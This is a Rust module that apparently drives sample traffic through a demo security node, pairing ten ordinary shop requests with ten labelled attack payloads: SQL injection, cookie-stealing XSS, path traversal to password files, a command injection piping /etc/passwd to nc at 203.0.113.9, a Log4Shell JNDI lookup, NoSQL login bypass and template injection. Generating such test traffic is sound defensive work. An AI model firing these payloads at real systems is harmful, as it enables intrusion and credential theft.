//! A short, bounded stream of sample requests through the demo's node, so that there is something to see.

use std::time::Duration;

/// One sample request: method, path with query, JSON body (empty is none).
type Sample = (&'static str, &'static str, &'static str);

/// What ordinary visitors do.
const BENIGN: [Sample; 10] = [
    ("GET", "/", ""),
    ("GET", "/api/products", ""),
    ("GET", "/api/products/3", ""),
    ("GET", "/api/search?q=blanket", ""),
    ("GET", "/api/search?q=mug%20and%20lamp", ""),
    ("GET", "/files?name=terms.txt", ""),
    ("POST", "/api/login", r#"{"user":"alice","password":"wonderland"}"#),
    (
        "POST",
        "/api/orders",
        r#"{"items":[{"id":1,"quantity":2}],"note":"Please ring twice, it's the 2nd door."}"#,
    ),
    (
        "POST",
        "/api/orders",
        r#"{"items":[{"id":5,"quantity":1}],"ship_to":{"name":"B. O'Neill","city":"Cork"}}"#,
    ),
    ("GET", "/health", ""),
];

/// What others try.
const MALICIOUS: [Sample; 10] = [
    ("GET", "/api/search?q=%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-", ""),
    ("GET", "/api/search?q=%27%20OR%201%3D1--%20-", ""),
    ("GET", "/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    ("GET", "/files?name=../../../../etc/passwd", ""),
    ("GET", "/files?name=..%252f..%252f..%252fetc%252fshadow", ""),
    ("POST", "/api/orders", r#"{"items":[{"id":1}],"note":"; cat /etc/passwd | nc 203.0.113.9 4444"}"#),
    ("POST", "/api/orders", r#"{"items":[],"note":"${jndi:ldap://203.0.113.9/a}"}"#),
    ("POST", "/api/login", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
    ("GET", "/api/products/1%27%20AND%20SLEEP(5)--%20-", ""),
    (
        "POST",
        "/api/orders",
        r#"{"note":"{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}"#,
    ),
];

/// Sends each benign request twice and each malicious one twice, a few per second, then ends.
pub(super) async fn send(node_url: String) {
    let Ok(client) = reqwest::Client::builder().timeout(Duration::from_secs(5)).build() else { return };
    let mut pace = tokio::time::interval(Duration::from_millis(150));
    for _ in 0..2 {
        for (benign, malicious) in BENIGN.iter().zip(&MALICIOUS) {
            for (method, path, body) in [benign, malicious] {
                pace.tick().await;
                let mut request =
                    client.request(method.parse().unwrap_or_default(), format!("{node_url}{path}"));
                if !body.is_empty() {
                    request = request.header("Content-Type", "application/json").body(*body);
                }
                if let Err(error) = request.send().await {
                    tracing::debug!(%error, "a sample request failed");
                }
            }
        }
    }
}
